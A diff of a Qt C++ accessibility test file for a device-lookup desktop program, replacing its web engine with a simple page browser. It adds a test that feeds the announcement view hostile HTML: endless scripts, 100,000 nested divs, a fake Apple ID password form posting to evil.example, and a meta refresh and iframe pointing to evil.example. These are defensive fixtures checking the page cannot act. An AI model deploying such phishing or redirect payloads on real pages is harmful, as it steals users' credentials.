@@ -8,6 +8,7 @@
 #include "device_lookup.h"
 #include "form_fixture.h"
 #include "main_window.h"
+#include "page_browser.h"
 #include "page_server.h"
 #include "process_tree.h"
 #include "service_contract.h"
@@ -33,9 +34,7 @@ using mizong::testing::Answer;
 using mizong::testing::dataFile;
 using mizong::testing::FormFixture;
 using mizong::testing::PageServer;
-using mizong::testing::processKind;
 using mizong::testing::processTree;
-using mizong::testing::webViewWanted;
 
 namespace {
 
@@ -89,18 +88,6 @@ QAccessibleInterface* accessibleOf(QObject* object)
     return node;
 }
 
-// The page engine's processes of this test program, of one kind.
-QList<qint64> ownProcesses(const QByteArray& kind)
-{
-    const qint64 self = QCoreApplication::applicationPid();
-    QList<qint64> found;
-    for (const qint64 pid : processTree(self)) {
-        if (processKind(pid, self) == kind)
-            found.append(pid);
-    }
-    return found;
-}
-
 constexpr const char kPhrase[] = "寻回失窃手机的公告";
 
 } // namespace
@@ -121,7 +108,6 @@ private:
             : FormFixture([this, embedBrowser](Form1::Options& options) {
                   options.homeSiteBase = homeSite.start();
                   options.embedBrowser = embedBrowser;
-                  options.browserModulePath = QStringLiteral(MIZONG_WEBVIEW_MODULE);
               })
         {
             showActive();
@@ -136,15 +122,14 @@ private slots:
     void helpLinkIsALink_data();
     void helpLinkIsALink();
     void pageIsReadable();
-    void pageEngineIsLean_data();
-    void pageEngineIsLean();
-    void windowOutlivesPage_data();
-    void windowOutlivesPage();
+    void hostilePageLeavesWindowAlone_data();
+    void hostilePageLeavesWindowAlone();
 
 private:
     // Serves the announcement, shows it, and waits until a reader finds its
     // text; the page view, or nullptr after a failed check.
-    static QWidget* showAnnouncement(Fixture& f);
+    static QWidget* showAnnouncement(Fixture& f, const QByteArray& body);
+    static QByteArray announcement();
 };
 
 void TestAccessibility::initTestCase()
@@ -167,7 +152,7 @@ void TestAccessibility::controlsAreNamed_data()
     QTest::newRow("SIM start") << u"Command4"_s << button << u"开始查询（ICCID）"_s;
     QTest::newRow("SIM clear") << u"Command2"_s << button << u"清空信息（ICCID）"_s;
     QTest::newRow("shop") << u"Command6"_s << button << u"觅踪网淘宝店"_s;
-    QTest::newRow("announcement") << u"WebBrowser1"_s << int(QAccessible::Client)
+    QTest::newRow("announcement") << u"WebBrowser1"_s << int(QAccessible::Document)
                                   << u"觅踪网公告"_s;
     QTest::newRow("device input") << u"Text1(0)"_s << int(QAccessible::EditableText)
                                   << u"IMEI或序列号:"_s;
@@ -259,115 +244,107 @@ void TestAccessibility::helpLinkIsALink()
     QVERIFY(f.messenger.messages.isEmpty());
 }
 
-QWidget* TestAccessibility::showAnnouncement(Fixture& f)
+QWidget* TestAccessibility::showAnnouncement(Fixture& f, const QByteArray& body)
 {
-    f.homeSite.route(
-        mizong::site::kAnnouncementPath.toUtf8(),
-        Answer(PageServer::htmlResponse("<!doctype html><html><head><meta charset=\"utf-8\">"
-                                        "<title>公告</title></head><body><p>" +
-                                        QByteArray(kPhrase) + "</p></body></html>"),
-               Answer::Then::Close));
-    QWidget* frame = f.child<QWidget>(u"WebBrowser1"_s);
-    QWidget* view = nullptr;
+    f.homeSite.route(mizong::site::kAnnouncementPath.toUtf8(),
+                     Answer(PageServer::htmlResponse(body), Answer::Then::Close));
+    auto* view = f.child<mizong::PageBrowser>(u"WebBrowser1"_s);
     [&] {
-        QTRY_VERIFY_WITH_TIMEOUT(
-            (view = frame->findChild<QWidget*>(QString(), Qt::FindDirectChildrenOnly)), kLimitMs);
         QTRY_VERIFY_WITH_TIMEOUT(treeContains(accessibleOf(view), QString::fromUtf8(kPhrase)),
                                  kLimitMs);
     }();
     return QTest::currentTestFailed() ? nullptr : view;
 }
 
-// With the page engine set up as the program sets it up (prepareEnvironment
-// in main below), the view asks the home site for the announcement and a
-// reader can read it.
+QByteArray TestAccessibility::announcement()
+{
+    return "<!doctype html><html><head><meta charset=\"utf-8\"><title>公告</title></head>"
+           "<body><p>" +
+           QByteArray(kPhrase) +
+           "</p><p><a href=\"/help.html\">帮助文章</a> <a href=\"https://other.example/\" "
+           "target=\"_blank\">淘宝店</a></p></body></html>";
+}
+
+// The view asks the home site for the announcement; a reader reads it as a
+// document with its links, and presses them.
 void TestAccessibility::pageIsReadable()
 {
-    if (!webViewWanted())
-        QSKIP("this build tests the window without the web engine");
     Fixture f(true);
-    QWidget* view = showAnnouncement(f);
+    QWidget* view = showAnnouncement(f, announcement());
     QVERIFY(view);
-    QCOMPARE(accessibleOf(view)->text(QAccessible::Name), u"觅踪网公告"_s);
+    QAccessibleInterface* page = accessibleOf(view);
+    QCOMPARE(page->text(QAccessible::Name), u"觅踪网公告"_s);
+    QCOMPARE(page->role(), QAccessible::Document);
     const QByteArray path = mizong::site::kAnnouncementPath.toUtf8();
     QVERIFY(std::any_of(f.homeSite.log().cbegin(), f.homeSite.log().cend(),
                         [&](const mizong::testing::Request& request) {
                             return request.method == "GET" && request.target == path;
                         }));
 
-    // The engine's own helper windows are no top-level objects for a reader.
+    QCOMPARE(page->childCount(), 2);
+    QAccessibleInterface* help = page->child(0);
+    QAccessibleInterface* shop = page->child(1);
+    QCOMPARE(help->role(), QAccessible::Link);
+    QCOMPARE(help->text(QAccessible::Name), u"帮助文章"_s);
+    QCOMPARE(shop->text(QAccessible::Name), u"淘宝店"_s);
+    QCOMPARE(page->indexOfChild(shop), 1);
+    QVERIFY(help->rect().isValid());
+    QVERIFY(view->rect().contains(view->mapFromGlobal(help->rect().center())));
+    // Pressing the shop's link sends it to the browser; nothing is opened before.
+    QVERIFY(f.opener.opened.isEmpty());
+    QAccessibleActionInterface* press = shop->actionInterface();
+    QVERIFY(press);
+    QCOMPARE(press->actionNames(), QStringList{QAccessibleActionInterface::pressAction()});
+    press->doAction(QAccessibleActionInterface::pressAction());
+    QCOMPARE(f.opener.opened, QList<QUrl>{QUrl(u"https://other.example/"_s)});
+
+    // Only the program's own window is a top-level object for a reader.
     QAccessibleInterface* application = accessibleOf(qApp);
     QCOMPARE(application->childCount(), 1);
     QCOMPARE(application->child(0)->object(), f.form.get());
 }
 
-void TestAccessibility::pageEngineIsLean_data()
+void TestAccessibility::hostilePageLeavesWindowAlone_data()
 {
-    QTest::addColumn<QByteArray>("absent"); // what must not be there with the page shown
+    QTest::addColumn<QByteArray>("body");
 
-    // The driver's test context would load it (about 50 MiB with Mesa).
-    QTest::newRow("no GL driver in the program") << QByteArray("_dri.so");
-    // Only the sandboxed zygote, which the renderers come from.
-    QTest::newRow("no unsandboxed zygote") << QByteArray("--no-zygote-sandbox");
+    const QByteArray phrase(kPhrase);
+    QTest::newRow("100 000 levels deep")
+        << QByteArray("<p>" + phrase + "</p>" + QByteArray("<div>").repeated(100000));
+    QTest::newRow("scripts that never stop") << QByteArray(
+        "<script>for(;;)alert('x')</script><p>" + phrase + "</p><script>while(true){}</script>");
+    QTest::newRow("a form asking for a password")
+        << QByteArray("<p>" + phrase +
+                      "</p><form action=\"http://evil.example/\"><input type=password "
+                      "name=p><input type=submit value=\"请输入Apple ID密码\"></form>");
+    QTest::newRow("refresh to another place")
+        << QByteArray("<meta http-equiv=\"refresh\" content=\"0;url=smb://evil.example/\"><p>" +
+                      phrase + "</p><iframe src=\"http://evil.example/\"></iframe>");
 }
 
-void TestAccessibility::pageEngineIsLean()
+// The page never runs: whatever it holds, the window answers the next click,
+// a reader walks it whole, nothing opens, and the program starts no process.
+void TestAccessibility::hostilePageLeavesWindowAlone()
 {
-    QFETCH(QByteArray, absent);
-    if (!webViewWanted())
-        QSKIP("this build tests the window without the web engine");
-#if QT_VERSION >= QT_VERSION_CHECK(6, 8, 0)
-    if (absent == "_dri.so")
-        QSKIP("Qt 6.8's engine creates a GL context of its own to learn the GPU's vendor");
-#endif
+    QFETCH(QByteArray, body);
     Fixture f(true);
-    QVERIFY(showAnnouncement(f));
-    const qint64 self = QCoreApplication::applicationPid();
-    for (const qint64 pid : processTree(self)) {
-        const QByteArray seen = mizong::testing::procFile(pid, pid == self ? "maps" : "cmdline");
-        QVERIFY2(!seen.contains(absent), processKind(pid, self).constData());
-    }
-    QCOMPARE(ownProcesses("renderer").size(), 1);
-}
-
-void TestAccessibility::windowOutlivesPage_data()
-{
-    QTest::addColumn<int>("signal");
-
-    QTest::newRow("page process killed") << int(SIGKILL);
-    QTest::newRow("page process crashed") << int(SIGSEGV);
-}
-
-// The page never runs inside the program: when its process dies, the window
-// answers the next click and a reader still walks the whole window.
-void TestAccessibility::windowOutlivesPage()
-{
-    QFETCH(int, signal);
-    if (!webViewWanted())
-        QSKIP("this build tests the window without the web engine");
-    Fixture f(true);
-    QWidget* view = showAnnouncement(f);
+    QWidget* view = showAnnouncement(f, body);
     QVERIFY(view);
-    const QList<qint64> renderers = ownProcesses("renderer");
-    QCOMPARE(renderers.size(), 1);
-    QCOMPARE(::kill(pid_t(renderers.first()), signal), 0);
-    QTRY_VERIFY_WITH_TIMEOUT(ownProcesses("renderer").isEmpty(), kLimitMs);
+    QVERIFY(!treeContains(accessibleOf(view), u"Apple ID"_s));
+    QVERIFY(!treeContains(accessibleOf(view), u"alert"_s));
 
     f.click(u"Command3"_s); // with an empty box
     QCOMPARE(f.messenger.messages, QStringList{mizong::device::kLengthMessage.toString()});
-    // A phrase that is nowhere, so that the reader walks every node, the
-    // dead page's included.
+    // A phrase that is nowhere, so that the reader walks every node.
     QVERIFY(!treeContains(accessibleOf(f.form.get()), u"不在窗口里的字"_s));
-    QCOMPARE(f.child<QWidget>(u"WebBrowser1"_s)
-                 ->findChild<QWidget*>(QString(), Qt::FindDirectChildrenOnly),
-             view);
+    QVERIFY(f.opener.opened.isEmpty());
+    QCOMPARE(processTree(QCoreApplication::applicationPid()).size(), 1);
 }
 
 int main(int argc, char* argv[])
 {
     // The X11 platform, whose accessibility bridge a screen reader talks to.
     qputenv("QT_QPA_PLATFORM", "xcb");
-    mizong::prepareEnvironment();
     QApplication app(argc, argv);
     mizong::prepareApplication();
     TestAccessibility test;
